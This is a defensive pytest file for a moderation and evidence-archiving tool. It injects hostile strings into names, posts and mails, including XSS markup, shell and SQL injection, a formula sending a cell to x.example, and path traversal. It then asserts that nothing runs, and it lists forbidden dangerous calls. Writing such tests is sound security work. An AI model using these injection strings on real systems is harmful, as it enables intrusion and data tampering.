"""Hostile words from every side (names, addresses, posts, the City's page, mails, files) against every way to do harm.

tests/bot/test_hostile_words.py has what comments say; here is everything else that strangers can write.
"""

from __future__ import annotations

import ast
import csv
import io
import json
import re
import zipfile
from html.parser import HTMLParser
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from city import VIOLATION, City, for_review

from archive import handwork, ledger
from archive.verify import verify
from bot import canary, tasks
from bot.certificates import drafts
from bot.promises import ref_of
from connectors.standin.world import Person

if TYPE_CHECKING:
    from collections.abc import Iterator

    from archive.capture import Camera
    from connectors.standin.world import WorldComment

Run = "Callable[..., tuple[int, str, str]]"
ROOT = Path(__file__).parents[2]
SOURCES = sorted(path for folder in ("bot", "connectors", "rules", "archive") for path in (ROOT / folder).rglob("*.py"))
OWNED = Path("/tmp/citymod-was-owned")

TERMINAL = "\x1b]0;owned\x07\x1b[2J\x9b1A\u202e"
MARKUP = "<script>alert(1)</script><img src=x onerror=alert(1)>\"'>{{7*7}}${7*7}[bold]x[/bold]"
SHELL = f"$(touch {OWNED}) `touch {OWNED}` ; touch {OWNED} | x"
SQL = "'); DROP TABLE comment; -- \" OR 1=1"
FORMULA = '=HYPERLINK("http://x.example/"&A1)'
LINE = "\r\n2026-11-20T15:00:00Z [info] resumed by=mallory\u2028\x85"
PATH = "../../../../etc/cron.d/x\x00.png"
CODE = "__import__('os').system('x') %s %(x)s {0.__class__}"
KINDS = {
    "terminal": TERMINAL,
    "markup": MARKUP,
    "shell": SHELL,
    "sql": SQL,
    "formula": FORMULA,
    "log line": LINE,
    "path": PATH,
    "code": CODE,
}


def attack(city: City) -> list[WorldComment]:
    """Each kind as a person's name and handle, in a post, in what is hidden and what waits, and as the City's page."""
    comments = []
    for number, (kind, words) in enumerate(KINDS.items()):
        author = Person(id=f"70000002{number:02}", name=words[:60], handle=f"pat{number}")
        post = city.world.add_post(city.accounts["facebook"], f"{words} {kind}")
        for text in (f"{VIOLATION} {words}", f"{for_review()} {words}", words):
            city.clock.move(seconds=1)
            comments.append(city.world.add_comment(post, text, author=author))
        with city.parts.database.begin() as tx:
            handwork.receive(
                tx,
                key=f"<{number}{words}@x>",
                source="mail",
                title=words,
                says=f"{words}\n{words}",
                body=words.encode(),
                trusted=False,
                now=city.clock(),
            )
    city.run()
    return comments


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory, camera: Camera) -> Iterator[tuple[City, list[WorldComment]]]:
    OWNED.unlink(missing_ok=True)
    with City(tmp_path_factory.mktemp("attacked"), camera, acts_a_day=50) as city:
        yield city, attack(city)


class Page(HTMLParser):
    """What a browser would make of a page."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.running: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.running += [name for name, value in attrs if name.startswith("on") or "javascript:" in (value or "")]


def test_everything_is_on_record_letter_by_letter_and_nothing_else_happened(
    attacked: tuple[City, list[WorldComment]],
) -> None:
    city, _ = attacked
    assert city.broken_promises() == []
    settings = city.settings
    report = verify(city.parts.database, settings.evidence_folder, settings.media_folder, now=city.clock())
    assert report.passed, "no table was dropped and no row slipped in"
    assert not OWNED.exists(), "no shell saw any of it"
    strange = [path for path in city.settings.data.rglob("*") if not re.fullmatch(r"[\w.@=-]+", path.name)]
    assert strange == [], "no file is named after a stranger's words"


def test_no_terminal_is_steered(attacked: tuple[City, list[WorldComment]], citymod: Run) -> None:
    city, comments = attacked
    config = ("--config", city.file)
    said = [citymod(*words, *config) for words in (("tasks", "list"), ("status", "--all"), ("gaps", "list"))]
    said += [citymod("search", "touch", *config), citymod("status", "--json", *config)]
    said += [citymod("evidence", "show", ref_of(comment), *config) for comment in comments[:3]]
    for _, out, err in said:
        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e]", out + err)


def test_pages_hold_words_and_no_markup(
    attacked: tuple[City, list[WorldComment]], citymod: Run, tmp_path: Path
) -> None:
    city, comments = attacked
    config = ("--config", city.file)
    pages = []
    assert citymod("export", tmp_path / "copies", "--reason", "x", "--who", "Kim", *config)[0] == 0
    pages += [path.read_text(encoding="utf-8") for path in (tmp_path / "copies").rglob("*.html")]
    done = (ref_of(one) for one in comments if city.done_by_us(one))
    pages += [drafts(city.parts.database, city.settings, ref, city.clock()) for ref in done]
    pages += [path.read_text(encoding="utf-8") for path in city.settings.evidence_folder.rglob("*.html")]
    assert len(pages) > len(KINDS)
    for page in pages:
        seen = Page(page)
        assert "script" not in seen.tags
        assert seen.running == []
        assert ">49<" not in page


def test_no_cell_of_a_table_is_a_formula(
    attacked: tuple[City, list[WorldComment]], citymod: Run, tmp_path: Path
) -> None:
    city, _ = attacked
    assert citymod("export", tmp_path / "copies", "--reason", "x", "--who", "K", "--config", city.file)[0] == 0
    tables = list((tmp_path / "copies").rglob("*.csv"))
    cells = 0
    for table in tables:
        for row in csv.reader(io.StringIO(table.read_text(encoding="utf-8-sig"), newline="")):
            assert not any(cell[:1] in tuple("=+-@\t\r") for cell in row), row
            cells += len(row)
    assert cells > len(KINDS) * 3


def test_alarms_and_webhooks_take_words_for_words(attacked: tuple[City, list[WorldComment]]) -> None:
    """A platform's own error text comes from outside, too."""
    city, _ = attacked
    for words in KINDS.values():
        with city.parts.database.begin() as tx:
            outcome = canary.Outcome({}, words)
            canary.record(tx, city.settings, outcome, agent=ledger.DAEMON, now=city.clock())
    for mail in city.alarms():
        head = mail.partition("\n\n")[0]
        assert "mallory" not in head
        assert "victim" not in head


def test_what_came_by_mail_is_a_task_that_says_it_in_words(attacked: tuple[City, list[WorldComment]]) -> None:
    city, _ = attacked
    with city.parts.database.read() as tx:
        waiting = tasks.waiting(tx, city.settings, city.clock())
    told = "\n".join(str(task) for task in waiting if not task.account)
    assert all(words.split()[0][:8] in told for words in (SHELL, SQL, MARKUP, CODE))


def test_logs_hold_no_word_of_theirs(city: City, capsys: pytest.CaptureFixture[str]) -> None:
    for words in KINDS.values():
        author = Person(id="7000000300", name=f"mallory {words}"[:60], handle="mallory")
        city.world.add_comment(city.posts["facebook"], f"{VIOLATION} mallory {words}", author=author)
    city.run()
    said = "".join(capsys.readouterr())
    assert "mallory" not in said


# What could turn words into code is in no source file -----------------------------------------------------------------

FORBIDDEN_CALLS = {
    *("eval", "exec", "compile", "__import__"),
    *("os.system", "os.popen", "pickle.load", "pickle.loads", "marshal.loads", "shelve.open"),
    *("xml.etree.ElementTree.parse", "subprocess.getoutput", "subprocess.getstatusoutput", "tempfile.mktemp"),
}


def called(node: ast.expr) -> str:
    return f"{called(node.value)}.{node.attr}" if isinstance(node, ast.Attribute) else getattr(node, "id", "")


@pytest.mark.parametrize("path", [str(path.relative_to(ROOT)) for path in SOURCES])
def test_no_source_file_makes_code_of_data(path: str) -> None:
    for node in ast.walk(ast.parse((ROOT / path).read_text(encoding="utf-8"))):
        if isinstance(node, ast.Call):
            assert called(node.func) not in FORBIDDEN_CALLS, f"{path}:{node.lineno}"
            shells = [word for word in node.keywords if word.arg == "shell"]
            assert shells == [], f"{path}:{node.lineno} goes through a shell"
            unchecked = [w for w in node.keywords if w.arg == "verify" and getattr(w.value, "value", None) is False]
            assert unchecked == [], f"{path}:{node.lineno} takes any certificate"
            unsafe = called(node.func) == "YAML" and any(
                getattr(w.value, "value", "") == "unsafe" for w in node.keywords
            )
            assert not unsafe, f"{path}:{node.lineno} makes objects of YAML"


def test_no_template_lets_markup_through() -> None:
    templates = [path for path in ROOT.rglob("*.j2") if ".venv" not in path.parts]
    assert len(templates) > 3
    for path in templates:
        text = path.read_text(encoding="utf-8")
        assert not re.search(r"\|\s*safe\b|autoescape\s+false", text), path


def test_archives_of_a_page_can_be_opened_and_name_no_path_outside(attacked: tuple[City, list[WorldComment]]) -> None:
    city, _ = attacked
    for path in city.settings.evidence_folder.rglob("*.wacz"):
        with zipfile.ZipFile(path) as packed:
            assert not any(name.startswith("/") or ".." in name.split("/") for name in packed.namelist())
    for path in city.settings.evidence_folder.rglob("*.json"):
        json.loads(path.read_text(encoding="utf-8"))
